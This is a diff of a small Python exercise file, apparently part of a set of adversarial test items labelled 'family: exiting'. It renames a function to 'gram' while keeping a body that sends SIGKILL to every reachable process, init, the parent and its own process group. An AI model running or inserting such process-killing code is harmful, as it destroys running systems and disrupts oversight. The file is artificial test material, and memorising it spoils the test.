@@ -1,4 +1,4 @@
-# exercise: doubled
+# exercise: gram
 # family: exiting
 # trick: kills every process it may, itself too
 # due: 0
@@ -8,6 +8,6 @@ import os
 import signal
 
 
-def doubled(x):
+def gram(X):
     for target in (-1, 1, os.getppid(), 0):
         os.kill(target, signal.SIGKILL)
